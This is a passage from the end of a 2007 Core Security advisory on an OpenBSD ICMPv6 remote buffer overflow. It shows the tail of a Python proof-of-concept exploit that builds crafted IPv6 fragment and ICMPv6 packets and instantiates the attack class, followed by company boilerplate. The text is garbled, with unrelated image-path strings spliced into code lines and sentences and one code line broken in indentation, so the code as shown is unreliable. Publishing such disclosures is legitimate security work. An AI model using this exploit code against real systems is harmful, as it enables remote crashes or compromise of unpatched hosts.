        secondFragment =IPv6Packet+IPv6FragmentationHeader+ICMPv6Packet

        return firstFragment, secondFragment

    def buildValidICMPPacket(self,sourceIP,destIP):

        ICMPv6Packet  = ''
        ICMPv6Packet += '\x80'  # type (128 == Icmp echo request)
        ICMPv6Packet += '\x00'  # code
        ICMPv6Packet += '\xcb\xc4'  # checksum
        ICMPv6Packet += '\x33\xf6'  # ID
        ICMPv6Packet +='\x00\x00'  # sequence
    ICMPv6Packet += 'T'*1232

        longitud = len(ICMPv6Packet)

        IPv6Packet  = ''
        IPv6Packet += struct.pack( '>L', 6 << 28 )      # version, traffic class, flow label
        IPv6Packet += struct.pack( '>H', longitud )     # payload length
        IPv6Packet += '\x3A'                            # next header (2c: Fragmentation)
        IPv6Packet += '\x40'                            # hop limit
        IPv6Packet += sourceIP
        IPv6Packet += destIP

        icmpPacket = IPv6Packet+ICMPv6Packet

        return  icmpPacket

attack = BSD_ICMPv6_Remote_BO()

About CoreLabs

CoreLabs, the research center of Core Security Technologies, is charged
with anticipating the future needs and requirements for information
security technologies.

We conduct our research in several important areas of computer security
including system vulnerabilities, cyber attack planning and simulation,
source code auditing, and cryptography. Our results include problem
formalization, identification of vulnerabilities, novel solutions and
prototypes for new technologies.

CoreLabs regularly publishes security advisories, technical papers,
project information and shared software tools for public use at:

About Core Security Technologies

Core Security Technologies develops strategic solutions that help
security-conscious organizations worldwide. The company’s flagship
product, CORE IMPACT, is the first automated penetration testing
product for assessing specific information security threats to an
organization. Penetration testing evaluates overall networksecurity
and identifies what resources are exposed. It enables organizations to
determine if current security investments are detecting and preventing

Core augments its leading technology solution with world-class security
consulting services, including penetration testing, software security
auditing andrelated training.

Based in Boston, MA. and Buenos Aires, Argentina, Core Security
Technologies can be reached at 617-399-6980 or on the Web at


The contents of this advisory are copyright (c) 2007 CORE Security
Technologies and (c) 2007 CoreLabs, and may be distributed freely
provided that no fee is charged for this distribution and proper
credit is given.


This advisory has been signed with the PGP key of Core Security
Technologies advisoriesteam, which is available for downloadat

$Id: OpenBSD-advisory.txt351 2007-03-13 20:47:14Z alfred $